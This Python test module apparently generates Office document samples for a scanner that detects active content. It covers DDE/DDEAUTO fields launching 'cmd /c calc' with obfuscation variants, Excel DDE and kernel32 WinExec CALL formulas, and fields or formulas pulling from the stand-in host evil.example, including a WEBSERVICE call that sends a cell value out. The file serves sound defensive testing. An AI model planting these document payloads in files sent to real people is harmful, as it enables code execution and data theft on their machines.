"""What the text of Word, Excel and PowerPoint can start: fields, formulas, buttons."""

import re

from tests.documents.makers import W, content_types, openxml, raw_docx, zipped

from .case import Case


def field(*pieces: str) -> str:
    """A field whose code stands in these pieces; "{" begins one inside, "}" ends it."""
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    inside = "".join(
        {"{": begin, "}": end}.get(piece, f"<w:r><w:instrText>{piece}</w:instrText></w:r>")
        for piece in pieces
    )
    return f"<w:p>{begin}{inside}{end}</w:p>"


FIELDS = {
    "DDE": field('DDE cmd "/c calc"'),
    "DDEAUTO": field("DDEAUTO c:\\x calc"),
    "DDE in small letters": field("ddeauto c:\\x calc"),
    "DDE in two pieces": field("DD", "EAUTO c:\\x calc"),
    "DDE in letters": field(*"DDEAUTO", " c:\\x calc"),
    "DDE inside another": field("IF 1 = 1 ", "{", "DDEAUTO c:\\x calc", "}"),
    "DDE spelt in numbers": field("{", "QUOTE 68 68 69 65 85 84 79", "}", " c:\\x calc"),
    "DDE that does not end": '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO x</w:instrText></w:r></w:p>",
    "DDE that was deleted": "<w:p><w:r><w:delInstrText>DDEAUTO x</w:delInstrText></w:r></w:p>",
    "DDE in a simple field": '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\x calc "/></w:p>',
    "linked object": field("LINK Excel.Sheet.8 c:\\x.xls"),
    "text from elsewhere": field('INCLUDETEXT "http://evil.example/a.docx"'),
    "picture from elsewhere": field('INCLUDEPICTURE "http://evil.example/a.png"'),
    "import": field('IMPORT "http://evil.example/a.png"'),
    "database": field('DATABASE \\c "DSN=x"'),
    "referenced document": field('RD "http://evil.example/a.docx"'),
    "link to a share": field('HYPERLINK "\\\\evil\\a.exe"'),
    "link to a programme": field('HYPERLINK "file:///c:/a.exe"'),
}
FORMULAS = {
    "DDE": "cmd|'/c calc'!A0",
    "DDE behind a sum": "SUM(1)+cmd|'/c calc'!A0",
    "DDE of another": "MSEXCEL|'\\..\\cmd.exe /c calc'!_xlbgnm.A1",
    "DDE with a quote too many": "MSEXCEL|'\\..\\cmd.exe' /c calc'!_xlbgnm.A1",
    "web service": '_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)',
    "picture": '_xlfn.IMAGE("http://evil.example/a.png")',
    "live data": 'RTD("evil",,"x")',
    "call": 'CALL("kernel32","WinExec","JCJ","calc",0)',
    "register": 'REGISTER("kernel32","WinExec","JCJ")',
}


def cases():
    for name, body in FIELDS.items():
        yield Case(f"Word field: {name}", "a.docx", raw_docx(body), "external", _of(name))
    for name, formula in FORMULAS.items():
        for where, part, wrapped in (
            ("cell", "xl/worksheets/sheet1.xml", "<s><c><f>{}</f></c></s>"),
            ("long cell", "xl/worksheets/sheet1.xml", "<s><c><f>" + " " * 5000 + "{}</f></c></s>"),
            ("name", "xl/workbook.xml", "<w><definedName>{}</definedName></w>"),
        ):
            members = {"[Content_Types].xml": content_types("XLSX"), "xl/workbook.xml": "<a/>"}
            data = zipped({**members, part: wrapped.format(formula)})
            alive = re.escape(formula[:12]).encode()
            if "|" in formula:
                alive += b"[^<]{0,300}!"  # a call names what it asks for
            yield Case(f"Excel {where}: {name}", "a.xlsx", data, "external", b">\\s*" + alive)
    for name, element in {"DDE link": "ddeLink", "object link": "oleLink"}.items():
        data = openxml("XLSX", {"xl/externalLinks/externalLink1.xml": f"<a><{element}/></a>"})
        yield Case(f"Excel {name}", "a.xlsx", data, "external", f"<{element}/>".encode())
    for what in ("macro?name=x", "program?x=calc.exe", "ole?verb=0"):
        slide = f'<p><hlinkClick action="ppaction://{what}"/></p>'
        data = openxml("PPTX", {"ppt/slides/slide1.xml": slide})
        yield Case(f"PowerPoint button: {what}", "a.pptx", data, "macros", b"ppaction://[mpo]")
    for name, body, code in (
        ("foreign text", "<w:altChunk/>", "embedded"),
        ("data source", "<w:connectString/>", "external"),
    ):
        yield Case(f"Word {name}", "a.docx", raw_docx(body), code, body.encode())
    settings = f'<w:s xmlns:w="{W}"><w:mailMerge><w:connectString/></w:mailMerge></w:s>'
    data = raw_docx("", {"word/settings.xml": settings})
    yield Case("Word mail merge", "a.docx", data, "external", b"<w:connectString/>")


def _of(name: str) -> bytes:
    return b"fldCharType=.begin.*DDEAUTO c:" if name in ("DDEAUTO", "DDE inside another") else b""
